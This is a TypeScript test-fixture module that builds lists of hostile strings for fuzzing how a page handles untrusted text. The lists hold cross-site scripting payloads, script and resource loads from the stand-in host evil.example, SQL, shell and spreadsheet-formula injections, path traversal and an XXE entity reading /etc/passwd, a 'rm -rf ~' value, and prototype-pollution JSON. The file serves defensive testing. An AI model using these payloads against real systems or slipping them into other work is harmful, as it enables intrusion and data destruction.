/**
 * Texts that could harm a careless page: markup with scripts, addresses that load content, characters that
 * change how text is displayed, names of object properties, and texts that terminals and spreadsheets execute.
 */
export const hostileContents: readonly string[] = [
  ...markup(),
  ...addresses(),
  ...characters(),
  ...acting(),
  ...names(),
  ...languages(),
  ...sizes(),
]

/**
 * The same contents in fewer texts, for pages that show one text at a time. A text has several pieces of markup, or
 * several characters, because a page that one of them harms is harmed beside the others, too. The rest acts only at the
 * beginning of a text or as the whole text, and some markup hides what follows: these contents are texts of their own.
 */
export const hostileTexts: readonly string[] = [
  ...inTexts(6, markup()),
  ...addresses(),
  ...inTexts(8, characters()),
  ...acting(),
  ...names(),
  ...languages(),
  ...sizes(),
]

/** Joins contents, `size` of them in each text, except for those that hide what follows or end a line. */
function inTexts(size: number, contents: readonly string[]): readonly string[] {
  const isAlone = (content: string) =>
    /^"><(?:iframe|style)|<mglyph>|<select>|<(?:meta|base) |[\t\n\r]/.test(content)
  const others = contents.filter(content => !isAlone(content))
  const texts = Array.from({ length: Math.ceil(others.length / size) }, (_, index) =>
    others.slice(index * size, (index + 1) * size).join(''),
  )
  return [...texts, ...contents.filter(isAlone)]
}

function markup(): readonly string[] {
  const run = 'ran(1)'
  const handlers = [
    'onerror',
    'onload',
    'onclick',
    'onfocus',
    'onmouseover',
    'onanimationstart',
    'ontoggle',
    'onpointerenter',
    'onbeforetoggle',
    'onscrollend',
  ]
  const elements = [
    'img src=x',
    'svg',
    'body',
    'details open',
    'input autofocus',
    'video src=x',
    'iframe',
    'marquee',
    'a',
    'style',
  ]
  return [
    ...handlers.flatMap(handler => elements.slice(0, 6).map(element => `<${element} ${handler}="${run}">`)),
    ...elements.slice(6).map(element => `"><${element} onload=${run} onerror=${run} onfocus=${run}>`),
    `<script>${run}</script>`,
    `</script><script>${run}</script>`,
    `<script src=//evil.example/x.js></script>`,
    `<SCRIPT>${run}</SCRIPT>`,
    `<scr<script>ipt>${run}</script>`,
    `<svg><script>${run}</script></svg>`,
    `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
    `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x">`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    `<template><script>${run}</script></template>`,
    `<textarea></textarea><img src=x onerror=${run}>`,
    `</textarea><script>${run}</script>`,
    `</title><script>${run}</script>`,
    `</style><script>${run}</script>`,
    `<!--><script>${run}</script>-->`,
    `<![CDATA[<script>${run}</script>]]>`,
    `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`,
    `<meta http-equiv="refresh" content="0;url=//evil.example/">`,
    `<meta http-equiv="content-security-policy" content="script-src *">`,
    `<base href="//evil.example/">`,
    `<link rel=stylesheet href=//evil.example/x.css>`,
    `<link rel=prefetch href=//evil.example/x>`,
    `<style>@import url(//evil.example/x.css);</style>`,
    `<style>*{background:url(//evil.example/x)}</style>`,
    `<div style="background:url(//evil.example/x);position:fixed;inset:0">`,
    `<img src=//evil.example/x.png>`,
    `<img srcset="//evil.example/x 1x">`,
    `<picture><source srcset=//evil.example/x><img></picture>`,
    `<object data=//evil.example/x></object>`,
    `<embed src=//evil.example/x>`,
    `<iframe src=javascript:parent.${run}></iframe>`,
    `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
    `<form action=//evil.example/><button>Go</button></form>`,
    `<button formaction=javascript:${run}>x</button>`,
    `<a href="javascript:${run}">x</a>`,
    `<a href="//evil.example/" target=_top ping=//evil.example/>x</a>`,
    `<portal src=//evil.example/></portal>`,
    `<video><source onerror=${run}></video>`,
    `<audio src=//evil.example/x autoplay></audio>`,
    `<dialog open>${run}</dialog>`,
    `<select><option onclick=${run}>x`,
    `<isindex action=javascript:${run}>`,
    `<custom-element is=x onx=${run}>`,
    `"onmouseover="${run}`,
    `' onfocus='${run}' autofocus='`,
    `\`onclick=${run}`,
    `--><img src=x onerror=${run}>`,
    `{{constructor.constructor('${run}')()}}`,
    `\${${run}}`,
    `<%= ${run} %>`,
    `#{${run}}`,
    `&lt;script&gt;${run}&lt;/script&gt;`,
    `&#60;script&#62;${run}&#60;/script&#62;`,
    `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
    `%3Cscript%3E${run}%3C/script%3E`,
    `＜script＞${run}＜/script＞`,
    `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  ]
}

function addresses(): readonly string[] {
  return [
    'javascript:ran(1)',
    'JaVaScRiPt:ran(1)',
    'java\tscript:ran(1)',
    ' javascript:ran(1)',
    'data:text/html,<script>ran(1)</script>',
    'data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=',
    'vbscript:ran(1)',
    'blob:http://127.0.0.1/x',
    'file:///etc/passwd',
    '//evil.example/',
    'http://evil.example/',
    'http://127.0.0.1@evil.example/',
    '/console/api/session',
    '../../api/session',
    '..',
    '.',
    '/',
    '?a=b#token=x',
    '#token=x',
    '%2e%2e%2f',
    '%00',
    '%E0%A4%A',
    'a/b\\c',
    'a b&c=d+e',
  ]
}

function characters(): readonly string[] {
  const codes = [
    ...Array.from({ length: 32 }, (_, code) => code),
    0x7f,
    0x80,
    0x85,
    0x90,
    0x9b,
    0x9f,
    0xad,
    0x61c,
    0x115f,
    0x180e,
    0x200b,
    0x200c,
    0x200d,
    0x200e,
    0x200f,
    0x2028,
    0x2029,
    0x202a,
    0x202b,
    0x202c,
    0x202d,
    0x202e,
    0x2060,
    0x2063,
    0x2066,
    0x2067,
    0x2068,
    0x2069,
    0x206f,
    0x3164,
    0xfeff,
    0xfff9,
    0xfffb,
    0x1d173,
    0xe0001,
    0xe0041,
    0xe007f,
  ]
  return codes.map(code => `a${String.fromCodePoint(code)}b`)
}

function acting(): readonly string[] {
  return [
    'a\ud800b',
    'a\udc00b',
    'invoice\u202egpj.exe',
    '\u2067admin\u2069 (user)',
    '\x1b[31mred\x1b[0m',
    '\x1b]8;;http://evil.example/\x1b\\link\x1b]8;;\x1b\\',
    '\x1b[2J\x1b[H',
    '\x9b31m',
    '\x1b]0;title\x07',
    `z${'\u0300\u0321\u0489'.repeat(60)}`,
    '\u{1f469}\u200d\u{1f469}\u200d\u{1f467}',
    'שלום عليكم',
    'line\r\nSet-Cookie: a=b',
    '\ufdfd'.repeat(20),
  ]
}

function names(): readonly string[] {
  return [
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'hasOwnProperty',
    'valueOf',
    '__defineGetter__',
    'then',
    'length',
    'null',
    'undefined',
    'NaN',
    'true',
    '[object Object]',
    '-1',
    '1e999',
    '{"__proto__":{"isAdmin":true}}',
    '{"constructor":{"prototype":{"x":1}}}',
    '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=ran(1)>"}}',
    '{"type":"script","props":{"children":"ran(1)"},"constructor":null,"__v":1}',
    '{"toString":"x","valueOf":null}',
    '[[[[[[[[[[]]]]]]]]]]',
    '{"a/b":{"~":1}}',
    '12345678901234567890.12345678901234567890',
    '"',
    '{',
    '{"a":1,}',
  ]
}

function languages(): readonly string[] {
  return [
    "'; DROP TABLE users; --",
    '" OR ""="',
    '=1+1',
    '=HYPERLINK("//evil.example/")',
    '@SUM(1)',
    '$(id)',
    '`id`',
    '; rm -rf ~',
    '| cat /etc/passwd',
    '%s%s%s%n',
    '../../../../etc/passwd',
    'expression(ran(1))',
    '*/ran(1)/*',
    '</xmp><script>ran(1)</script>',
    '[x](javascript:ran(1))',
    '![x](//evil.example/x)',
    '<xsl:value-of select="x"/>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    'onerror=ran;throw 1',
    'import("//evil.example/x.js")',
  ]
}

function sizes(): readonly string[] {
  return [
    '',
    ' ',
    'x'.repeat(70_000),
    'word '.repeat(10_000),
    '\n'.repeat(5000),
    '\u202e'.repeat(5000),
    '<b>'.repeat(20_000),
    `${'['.repeat(3000)}${']'.repeat(3000)}`,
    JSON.stringify(Object.fromEntries(Array.from({ length: 3000 }, (_, index) => [`<i>${index}`, '\u202e']))),
    '🤷'.repeat(3000),
  ]
}
